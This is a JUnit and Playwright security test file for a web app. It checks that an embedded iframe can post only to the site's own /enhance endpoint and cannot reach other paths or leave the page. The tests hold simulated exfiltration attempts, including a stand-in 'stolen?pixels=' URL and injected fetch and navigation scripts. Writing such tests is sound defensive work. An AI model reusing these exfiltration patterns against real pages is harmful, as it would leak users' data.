package app.selfsame.browser;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertTrue;

import com.microsoft.playwright.Frame;
import java.io.IOException;
import java.util.List;
import java.util.Set;
import org.junit.After;
import org.junit.Before;
import org.junit.ClassRule;
import org.junit.Test;

/**
 * What the document that carries a crop could do if its script, or the page's, had been tampered with.
 *
 * <p>It has the page's origin, because the server answers no other. So a tampered page can open it unasked and send
 * through it whatever it likes, to the one address that it may reach: on this site, and nowhere else. That is shown
 * below, so that nobody relies on what is not so. The other way round it can do with the page what the page can do.
 */
public class CourierAttackTest {
  private static final Set<String> REQUESTS = Set.of("fetch", "fetch-no-cors", "fetch-post", "xhr");
  private static final String ELSEWHERE = "http://localhost:9/stolen?pixels=";

  @ClassRule public static final ServedSite SITE = new ServedSite();

  private WireTap wire;
  private StudioVisit visit;

  @Before
  public void visit() throws IOException {
    wire = new WireTap(SITE.port());
    visit = StudioVisit.begin(SITE.browser(), wire.origin());
  }

  @After
  public void leave() {
    visit.close();
    wire.close();
  }

  @Test
  public void theCourierReachesItsOneAddress() {
    assertEquals(REQUESTS, PageAttacks.outOf(courier()::evaluate, wire.origin() + "/enhance"));
    assertTrue(wire.requestLines().toString(), wire.requestLines().contains("POST /enhance HTTP/1.1"));
  }

  @Test
  public void theCourierReachesNothingElse() {
    Frame courier = courier();
    String file = (String) visit.page().evaluate("() => JSON.parse(assets.textContent)['documents.txt'].address");
    List<String> before = wire.requestLines();
    for (String path : List.of("/", "/light", "/health", "/enhance/more", file)) {
      assertEquals(path, Set.of(), PageAttacks.outOf(courier::evaluate, wire.origin() + path));
    }
    assertEquals(Set.of(), PageAttacks.outOf(courier::evaluate, ELSEWHERE));
    assertEquals(before, wire.requestLines());
  }

  /** Not even by leaving: the page's policy names the one document that may stand in it. */
  @Test
  public void theCourierGoesNowhere() {
    visit.page().evaluate(
        "() => { window.violated = new Promise((resolve) => document.addEventListener('securitypolicyviolation',"
            + " ({effectiveDirective}) => resolve(effectiveDirective))); }");
    courier().evaluate("(to) => { location.href = to; }", ELSEWHERE);
    assertEquals("frame-src", visit.page().evaluate("() => violated"));
  }

  @Test
  public void noForeignCodeRunsInTheCourier() {
    assertEquals(Set.of(), PageAttacks.foreignCodeOn(courier()::evaluate));
  }

  /** The page's own script opens it only when a person has said so; no policy can hold a tampered one to that. */
  @Test
  public void aTamperedPageCanDriveTheCourier() {
    courier();
    visit.page().evaluate("() => frames[0].fetch('/enhance', {method: 'POST', body: 'pixels'}).then(() => true)");
    assertTrue(wire.requestLines().toString(), wire.requestLines().contains("POST /enhance HTTP/1.1"));
  }

  private Frame courier() {
    visit.page().evaluate(
        """
        () => new Promise((resolve) => {
          const frame = Object.assign(document.createElement('iframe'), {src: '/light', onload: resolve});
          document.body.append(frame);
        }).then(() => true)""");
    return visit.page().frames().stream().filter(frame -> frame.url().endsWith("/light")).findFirst().orElseThrow();
  }
}
